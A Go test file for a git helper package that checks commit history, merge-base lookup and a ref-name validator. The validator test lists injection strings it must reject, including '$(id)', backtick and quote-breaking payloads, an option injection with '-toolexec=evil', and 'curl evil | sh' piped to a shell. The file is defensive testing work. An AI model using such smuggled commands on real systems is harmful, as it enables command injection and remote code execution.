package git

import (
	"slices"
	"testing"

	"github.com/gohone/hone/internal/text/fail"
)

// The history of first parents has each commit with its author, date and subject, the oldest first, and the files that
// it changes.
func TestHistory(t *testing.T) {
	h := newHostile(t)
	first, _ := CommitOf(t.Context(), h.dir)
	h.commit("b file.txt", "text\n")
	h.commit("ä.go", "package a\n")
	last, _ := CommitOf(t.Context(), h.dir)
	all, err := History(t.Context(), h.dir, first, last)
	if err != nil || len(all) != 2 {
		t.Fatalf("%v: %+v", err, all)
	}
	one, err := Describe(t.Context(), h.dir, last)
	if err != nil || one.Hash != last || one.Subject != all[1].Subject || one.Author == "" || one.Date.IsZero() ||
		!slices.Equal(one.Parents, []string{all[0].Hash}) {
		t.Errorf("%v: %+v", err, one)
	}
	files, err := ChangedFiles(t.Context(), h.dir, all)
	if err != nil || !slices.Equal(files[0], []string{"a.txt", "b file.txt"}) ||
		!slices.Equal(files[1], []string{"ä.go"}) {
		t.Errorf("%v: %q", err, files)
	}
	base, err := Base(t.Context(), h.dir, first, last)
	if err != nil || base != first {
		t.Errorf("%v: %s", err, base)
	}
	h.git("checkout", "-q", "--orphan", "other")
	h.commit("c.txt", "text\n")
	other, _ := CommitOf(t.Context(), h.dir)
	if _, err := Base(t.Context(), h.dir, other, last); fail.KindOf(err) != fail.BadInput {
		t.Errorf("%v", err)
	}
}

// A stored name of a commit stands in printed commands only if it is one plain word, and no option.
func TestPlainRef(t *testing.T) {
	for name, want := range map[string]bool{
		"v1.2.0": true, "HEAD~3": true, "main^{commit}": true, "origin/feature-x": true, "@": true, "0a1b2c": true,
		"": false, "--flags=-toolexec=evil": false, "-x": false, "HEAD ./x; curl evil | sh #": false, "$(id)": false,
		"a`id`": false, "a\nb": false, "x';id;'": false,
	} {
		if PlainRef(name) != want {
			t.Errorf("%q: %v", name, !want)
		}
	}
}
